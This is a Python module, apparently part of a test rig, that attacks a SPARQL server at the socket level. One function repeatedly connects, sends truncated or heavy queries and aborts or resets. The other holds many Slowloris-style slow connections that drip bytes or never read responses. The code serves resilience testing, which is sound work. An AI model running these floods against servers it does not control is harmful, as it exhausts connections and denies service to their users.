"""Clients that leave early and clients that are slow: sockets, not queries, are the weapon."""

from __future__ import annotations

import select
import socket
import time
from contextlib import suppress

from rig.attacks import cross_products, floods
from rig.wire import HOST, connect, get, post, reset

STEP = 0.5


def leave_early(port: int, source: str, times: int = 30) -> int:
    """Connect and leave in the head, the body, the wait and the answer; return how often."""
    heavy, large = get(cross_products()[3]), get(floods()[5])
    body = post("ASK {}" + " " * 1000)
    cuts = [
        (get("ASK {}")[:40], 0.0),
        (body[:-500], 0.0),
        (body[:-1000], 0.05),
        (heavy, 0.0),
        (heavy, 0.4),
        (large, 0.0),
        (large, 0.3),
    ]
    for number in range(times * len(cuts)):
        request, wait = cuts[number % len(cuts)]
        with suppress(OSError):
            plug = connect(port, source)
            plug.sendall(request)
            if wait:
                plug.settimeout(wait)
                with suppress(TimeoutError):
                    plug.recv(1000)
            if number % 2:
                reset(plug)
            else:
                plug.close()
    return times * len(cuts)


def hold_slow(port: int, source: str, count: int, seconds: float) -> int:
    """Hold slow sockets for `seconds`; return how many of them the server had closed by then.

    A third sends its head a byte at a time, a third its body, a third never reads a large answer.
    """
    plugs, opened = [], 0
    length = "Content-Length: 100000\r\nContent-Type: application/sparql-query\r\n\r\n"
    starts = [
        f"GET /sparql HTTP/1.1\r\nHost: {HOST}\r\nX-Slow: ".encode(),
        f"POST /sparql HTTP/1.1\r\nHost: {HOST}\r\n{length}".encode(),
        get("SELECT * { ?a ?b ?c }", close=False),
    ]
    for number in range(count):
        with suppress(OSError):
            plug = connect(port, source)
            opened += 1
            plug.sendall(starts[number % 3])
            plugs.append((plug, number % 3))
    until = time.monotonic() + seconds
    closed = opened - len(plugs)
    while plugs and time.monotonic() < until:
        time.sleep(STEP)
        kept = [(plug, kind) for plug, kind in plugs if _drip(plug, kind)]
        closed, plugs = closed + len(plugs) - len(kept), kept
    for plug, _ in plugs:
        plug.close()
    return closed


def _drip(plug: socket.socket, kind: int) -> bool:
    """Send one byte more where there is more to send; return whether the socket is still open."""
    try:
        if kind < 2:
            plug.sendall(b"x")
        ready, _, _ = select.select([plug], [], [], 0)
        gone = bool(ready) and kind < 2 and not plug.recv(4096)
        if kind == 2:
            broken = plug.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
            return not broken
    except OSError:
        gone = True
    if gone:
        plug.close()
    return not gone
